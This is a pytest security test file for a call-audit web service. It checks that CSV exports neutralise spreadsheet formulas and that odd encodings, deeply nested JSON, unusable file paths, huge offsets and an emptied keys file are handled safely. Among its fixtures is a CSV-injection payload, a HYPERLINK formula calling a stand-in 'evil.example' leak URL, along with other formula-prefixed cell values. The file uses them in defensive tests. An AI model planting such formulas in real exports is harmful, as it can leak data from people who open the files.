"""What a penetration test threw at a real server (two tenants, a keys file) and what it must get back: CSV
exports that no spreadsheet runs as formulas, GBK files read, deep JSON, odd paths and huge offsets refused
with a 422 that says why (never a 500), and a keys file truncated to nothing that keeps its last good keys.

A real uvicorn server on loopback around the real app, on its own SQLite store and keys file beside the
shared models (tests/support/keyed_server.py). docs/security.md, "Input limits", lists each rule with its test here.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import secrets
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Iterator

import httpx
import pytest
import soundfile as sf
from support.keyed_server import close_private, private_runtime, start_and_hang_up
from support.live_server import LiveServer
from sqlalchemy import select
from websockets.sync.client import connect

from service.access.keys import digest_of
from service.access.keysfile import KeysFile, KeySpec, PrincipalSpec, save_keys_file
from service.app import create_app
from service.audit.outputs.exports import BATCH_COLUMNS

# role, name, tenant
PRINCIPALS = [("integrator", "pbx-acme", "acme"), ("integrator", "pbx-globex", "globex"), ("qa", "qa-acme", "acme"),
              ("qa", "qa-globex", "globex"), ("supervisor", "chief", None)]
TIMELINE = Path(__file__).parent / "data" / "timelines" / "utility_006.json"
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?leak","点我")'


def write_keys(path: Path) -> dict[str, str]:
    """The keys file; returns name → its (test-only, plaintext) key."""
    keys = {name: f"cw_{secrets.token_urlsafe(32)}" for _, name, _ in PRINCIPALS}
    save_keys_file(path, KeysFile(principals=[
        PrincipalSpec(role=role, name=name, tenant=tenant, keys=[KeySpec(sha256=digest_of(keys[name]))])  # type: ignore[arg-type]
        for role, name, tenant in PRINCIPALS]))
    return keys


@dataclass
class Server:
    runtime: Any
    served: LiveServer
    http: httpx.Client
    keys: dict[str, str]
    keys_path: Path
    data_dir: Path

    def auth(self, name: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.keys[name]}"}


@pytest.fixture(scope="module")
def server(runtime: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("input-limits")
    keys_path = tmp / "keys.yaml"
    keys = write_keys(keys_path)
    rt = private_runtime(runtime, tmp, keys_path)
    try:
        with LiveServer(create_app(runtime=rt)) as served, httpx.Client(base_url=served.url, timeout=60) as http:
            yield Server(rt, served, http, keys, keys_path, tmp)
    finally:
        close_private(rt)


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def wait_for_batch(server: Server, batch_id: str, name: str = "chief", timeout: float = 180) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        r = server.http.get(f"/v1/audit/batches/{batch_id}", headers=server.auth(name))
        assert r.status_code == 200, r.text
        if r.json()["finished"]:
            return r.json()
        time.sleep(0.2)
    raise AssertionError(f"batch {batch_id} did not finish")


def stream_a_call(server: Server, integrator: str, call_id: str, agent_id: str) -> None:
    """A call over the real ingest socket: start, hang up, read until the server closes."""
    with connect(server.served.ws_url + "/v1/ingest", additional_headers=server.auth(integrator), open_timeout=10) as ws:
        start_and_hang_up(ws, call_id, agent_id)


def post_paths(server: Server, paths: list[str]) -> httpx.Response:
    """A path batch; encoded here, since httpx cannot send a lone surrogate (JSON can, as an escape)."""
    return server.http.post("/v1/audit/batches/paths", content=json.dumps({"paths": paths}),
                            headers={**server.auth("chief"), "Content-Type": "application/json"})


def job_meta(server: Server, batch_id: str) -> list[dict[str, Any]]:
    """The metadata each job of the batch was queued with, as the database holds it."""
    from service.persistence.tables import audit_jobs

    with server.runtime.store.db.engine.connect() as conn:
        rows = conn.execute(select(audit_jobs.c.meta).where(audit_jobs.c.batch_id == batch_id)).scalars().all()
    return [json.loads(m) for m in rows]


# ---------------------------------------------------------------- 6. CSV cells are never formulas


def test_an_agent_id_from_a_start_frame_is_text_in_the_call_list_csv_and_the_report_csv(server: Server) -> None:
    from service.persistence.call_list import CallList

    call_id = "-2-formula"  # a call id may start with a minus, and `-2-…` is a formula to Excel
    stream_a_call(server, "pbx-acme", call_id, FORMULA_AGENT)
    store = server.runtime.store
    store.add_utterance(call_id, "customer-0", "customer", 1.0, 2.5, "@SUM(1+1)")
    store.set_utterance_emotion(call_id, "customer-0", {"valence": -0.41, "smoothed_valence": -0.41, "label": "upset"})
    CallList(store.db).sync()  # what the list does by itself at most every 30 s

    export = server.http.get("/v1/audit/calls.csv", params={"agent_id": FORMULA_AGENT}, headers=server.auth("qa-acme"))
    assert export.status_code == 200, export.text
    [row] = csv_rows(export.text)
    assert row["agent_id"] == "'" + FORMULA_AGENT and row["call_id"] == "'" + call_id
    assert row["worst_valence"] == "-0.41" and row["worst_mood"] == "upset"  # a number stays a number

    report = server.http.get(f"/v1/audit/calls/{call_id}/report.csv", headers=server.auth("qa-acme"))
    assert report.status_code == 200
    [line] = [r for r in csv_rows(report.text) if r["kind"] == "utterance"]
    assert line["text"] == "'@SUM(1+1)" and line["valence"] == "-0.41" and line["start"] == "1.0"


def test_an_agent_id_from_a_metadata_csv_is_text_in_the_batch_summary_csv(server: Server, shared_audio: Path,
                                                                          tmp_path: Path) -> None:
    """A short real audit (five seconds), its agent id from the uploaded metadata CSV; and a file whose name
    starts with a minus, which fails at once as empty."""
    audio, rate = sf.read(shared_audio / "calls" / "call_03_dialogue_and_commands.wav", dtype="int16")
    clip = tmp_path / "formula_clip.wav"
    sf.write(clip, audio[: 5 * rate], rate, subtype="PCM_16")
    metadata = f'file,agent_id\nformula_clip.wav,"{FORMULA_AGENT.replace(chr(34), chr(34) * 2)}"\n'
    r = server.http.post("/v1/audit/batches", headers=server.auth("qa-acme"), files=[
        ("files", (clip.name, clip.read_bytes(), "audio/wav")), ("files", ("-2+3.wav", b"", "audio/wav")),
        ("metadata_csv", ("metadata.csv", metadata.encode(), "text/csv"))])
    assert r.status_code == 202, r.text
    batch = wait_for_batch(server, r.json()["batch_id"], "qa-acme")
    assert {j["file_name"]: j["state"] for j in batch["jobs"]} == {"formula_clip.wav": "done", "-2_3.wav": "failed"}

    summary = server.http.get(f"/v1/audit/batches/{batch['batch_id']}/summary.csv", headers=server.auth("qa-acme"))
    rows = {row["file_name"]: row for row in csv_rows(summary.text)}
    assert set(rows) == {"formula_clip.wav", "'-2_3.wav"}  # the upload's name, made safe for the disk, then for Excel
    assert rows["formula_clip.wav"]["agent_id"] == "'" + FORMULA_AGENT
    assert float(rows["formula_clip.wav"]["score"]) >= 0 and not rows["formula_clip.wav"]["score"].startswith("'")


def test_the_command_lines_summary_and_comparison_csv_neutralise_text_cells_too(tmp_path: Path) -> None:
    """`callwatch audit --format csv` and `callwatch reaudit --out` write through the same function."""
    from rules.config import load_rules_config
    from rules.names import name_table
    from service.audit.outputs.files import ReportWriter
    from service.audit.running.reaudit import comparison_csv
    from service.audit.web.models import ReauditOut, ReauditRow

    writer = ReportWriter(tmp_path / "out", ["csv"], name_table(load_rules_config()))
    report = {"call_id": "rec-1", "agent_id": "+86 cmd", "score": 80.0, "findings": [], "worst_mood": {"valence": -0.5},
              "utterances": [{"speaker": "agent", "start": 0.5, "end": 1.5, "text": "\tsneaky", "emotion": None}]}
    written = writer.write_call(tmp_path / "@call.wav", "done", report)
    writer.write_failure(tmp_path / "=cmd.wav", "empty", "-the file is empty")
    writer.write_summary({})
    rows = {r["file_name"]: r for r in csv_rows((tmp_path / "out" / "summary.csv").read_text(encoding="utf-8"))}
    assert set(rows) == {"'@call.wav", "'=cmd.wav"} and list(rows["'=cmd.wav"])[: len(BATCH_COLUMNS)] == BATCH_COLUMNS
    assert rows["'@call.wav"]["agent_id"] == "'+86 cmd" and rows["'@call.wav"]["worst_valence"] == "-0.5"
    assert rows["'=cmd.wav"]["error"] == "'-the file is empty"
    [line] = csv_rows(written["csv"].read_text(encoding="utf-8"))
    assert line["text"] == "'\tsneaky"

    compared = ReauditOut(calls=1, changed=1, mean_old=90.0, mean_new=85.0, applied=False, rows=[
        ReauditRow(call_id="-1-call", old_score=90.0, new_score=85.0, delta=-5.0, added=["hold.apology"], removed=[])])
    [row] = csv_rows(comparison_csv(compared))
    assert row["call_id"] == "'-1-call" and row["delta"] == "-5.0"


# ---------------------------------------------------------------- 9. encodings


def test_gbk_metadata_csv_and_rules_file_are_read_on_upload_and_other_encodings_refused(server: Server) -> None:
    csv_gbk = "file,agent_id,direction\ngbk_empty.wav,坐席甲,呼出\n".encode("gbk")
    rules_gbk = "deployment:\n  company_name: 顺丰速运\n".encode("gbk")
    r = server.http.post("/v1/audit/batches", headers=server.auth("chief"), files=[
        ("files", ("gbk_empty.wav", b"", "audio/wav")), ("metadata_csv", ("通话.csv", csv_gbk, "text/csv")),
        ("rules", ("规则.yaml", rules_gbk, "application/yaml"))])
    assert r.status_code == 202, r.text
    batch = wait_for_batch(server, r.json()["batch_id"])
    assert batch["rules_name"] == "规则.yaml" and batch["jobs"][0]["error_code"] == "empty"
    assert job_meta(server, batch["batch_id"]) == [{"agent_id": "坐席甲", "direction": "outbound"}]

    utf16 = "file,agent_id\ngbk_empty.wav,A1\n".encode("utf-16")
    for field, name in (("metadata_csv", "metadata.csv"), ("rules", "rules-utf16.yaml")):
        r = server.http.post("/v1/audit/batches", headers=server.auth("chief"), files=[
            ("files", ("a.wav", b"", "audio/wav")), (field, (name, utf16, "text/plain"))])
        assert r.status_code == 422, r.text
        [detail] = r.json()["detail"]
        assert detail["loc"] == ["body", field] and name in detail["msg"], detail
        assert "UTF-8" in detail["msg"] and "GB18030" in detail["msg"]


def test_a_gbk_metadata_csv_beside_a_path_batch_is_read_and_a_utf16_one_refused(server: Server) -> None:
    folder = server.data_dir / "import" / "gbk"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "path_empty.wav").write_bytes(b"")  # fails at once as empty: no recogniser needed
    (folder / "metadata.csv").write_bytes("file,agent_id\npath_empty.wav,坐席乙\n".encode("gb18030"))
    r = post_paths(server, [str(folder)])
    assert r.status_code == 202, r.text
    assert job_meta(server, r.json()["batch_id"]) == [{"agent_id": "坐席乙"}]

    (folder / "metadata.csv").write_bytes("file,agent_id\npath_empty.wav,A1\n".encode("utf-16"))
    r = post_paths(server, [str(folder)])
    assert r.status_code == 422, r.text
    assert "metadata.csv" in r.json()["detail"][0]["msg"]


# ---------------------------------------------------------------- 9. nesting depth


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("depth", [33, 100_000])
def test_deeply_nested_json_is_a_422_on_every_json_body_and_the_upload_meta(server: Server, depth: int) -> None:
    deep = nested(depth)
    bodies = [("/v1/audit-timeline", "pbx-acme", f'{{"timeline": {deep}}}'),
              ("/v1/audit/reaudit", "chief", f'{{"rules": "", "query": {deep}}}'),
              ("/v1/audit/batches/paths", "chief", f'{{"paths": ["x.wav"], "meta": {deep}}}')]
    for path, who, body in bodies:
        r = server.http.post(path, content=body, headers={**server.auth(who), "Content-Type": "application/json"})
        assert r.status_code == 422, (path, r.status_code, r.text[:200])
        assert "nested deeper than 32" in r.json()["detail"][0]["msg"], path
    r = server.http.post("/v1/audit/batches", headers=server.auth("chief"), data={"meta": f'{{"agent_id": {deep}}}'},
                         files=[("files", ("a.wav", b"", "audio/wav"))])
    assert r.status_code == 422, r.text[:200]
    assert r.json()["detail"][0]["loc"] == ["body", "meta"] and "nested deeper than 32" in r.json()["detail"][0]["msg"]

    timeline = json.loads(TIMELINE.read_text(encoding="utf-8"))
    timeline["title"] = deep  # brackets in a string are text, not nesting
    r = server.http.post("/v1/audit-timeline", json={"timeline": timeline}, headers=server.auth("pbx-acme"))
    assert r.status_code == 200 and r.json()["call_id"] == "utility_006", r.text[:200]


# ---------------------------------------------------------------- 9. paths in a path batch


@pytest.fixture(scope="module")
def bad_paths(server: Server) -> dict[str, str]:
    imports = server.data_dir / "import" / "odd"
    imports.mkdir(parents=True, exist_ok=True)
    loop_a, loop_b = imports / "loop_a", imports / "loop_b"
    if not loop_a.is_symlink():
        os.symlink(loop_b, loop_a)
        os.symlink(loop_a, loop_b)
    return {"symlink loop": str(loop_a), "inside a symlink loop": str(loop_a / "call.wav"),
            "NUL": str(imports / "call\x00.wav"), "5,000 characters": str(imports / ("x" * 5000)),
            "a 300-byte name": str(imports / ("录音" * 50 + ".wav")),  # 100 characters, 3 bytes each in UTF-8
            "a lone surrogate": str(imports / "call\ud800.wav")}


@pytest.mark.parametrize("case, message", [
    ("symlink loop", "loop of symbolic links"), ("inside a symlink loop", "loop of symbolic links"),
    ("NUL", "NUL character"), ("5,000 characters", "longer than 4096 bytes"),
    ("a 300-byte name", "name longer than 255 bytes"), ("a lone surrogate", "not text the file system can name"),
])
def test_a_path_batch_naming_an_unusable_path_is_a_422_saying_why(server: Server, bad_paths: dict[str, str],
                                                                   case: str, message: str) -> None:
    r = post_paths(server, [bad_paths[case]])
    assert r.status_code == 422, (case, r.status_code, r.text[:300])
    [detail] = r.json()["detail"]
    assert detail["loc"] == ["body", "paths", 0] and message in detail["msg"], detail


def test_each_unusable_path_of_a_batch_is_named(server: Server, bad_paths: dict[str, str]) -> None:
    good = server.data_dir / "import" / "odd" / "fine.wav"
    good.write_bytes(b"")
    r = post_paths(server, [str(good), bad_paths["NUL"], bad_paths["symlink loop"]])
    assert r.status_code == 422, r.text
    assert [d["loc"] for d in r.json()["detail"]] == [["body", "paths", 1], ["body", "paths", 2]]


# ---------------------------------------------------------------- 9. offsets


@pytest.mark.parametrize("path", ["/v1/audit/calls", "/v1/audit/calls.csv"])
def test_an_offset_past_a_billion_is_a_422_naming_it(server: Server, path: str) -> None:
    for offset in (2**63, 10**9 + 1, -1):
        r = server.http.get(path, params={"offset": offset}, headers=server.auth("chief"))
        assert r.status_code == 422, (offset, r.status_code, r.text[:200])
        assert r.json()["detail"][0]["loc"] == ["query", "offset"]
    r = server.http.get(path, params={"offset": 10**9}, headers=server.auth("chief"))
    assert r.status_code == 200


# ---------------------------------------------------------------- 10. the keys file


def test_a_keys_file_truncated_to_nothing_keeps_its_last_good_keys_and_says_so(
        server: Server, caplog: pytest.LogCaptureFixture) -> None:
    good = server.keys_path.read_bytes()
    assert server.http.get("/v1/audit/calls", headers=server.auth("qa-acme")).status_code == 200
    try:
        server.keys_path.write_bytes(b"")  # a full disk, or a tool that failed half-way
        with caplog.at_level(logging.WARNING, "callwatch.access"):
            for name in ("qa-acme", "chief"):
                r = server.http.get("/v1/audit/calls", headers=server.auth(name))
                assert r.status_code == 200, (name, r.text)
        assert "keeping its last good version" in caplog.text and str(server.keys_path) in caplog.text
        assert "empty" in caplog.text
    finally:
        server.keys_path.write_bytes(good)
    assert server.http.get("/v1/audit/calls", headers=server.auth("qa-acme")).status_code == 200


def test_a_keys_file_empty_at_start_admits_nobody_says_so_and_is_picked_up_when_filled(
        runtime: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    keys_path = tmp_path / "keys.yaml"
    keys_path.write_bytes(b"")
    rt = private_runtime(runtime, tmp_path, keys_path)
    try:
        with caplog.at_level(logging.WARNING, "callwatch.access"), LiveServer(create_app(runtime=rt)) as served, \
                httpx.Client(base_url=served.url, timeout=30) as http:
            assert "nobody admitted from it" in caplog.text and str(keys_path) in caplog.text and "empty" in caplog.text
            # Fail closed: a configured keys file means no loopback exemption, even while it is empty.
            assert http.get("/v1/audit/calls").status_code == 401
            keys = write_keys(keys_path)
            assert http.get("/v1/audit/calls", headers={"Authorization": f"Bearer {keys['qa-acme']}"}).status_code == 200
    finally:
        close_private(rt)
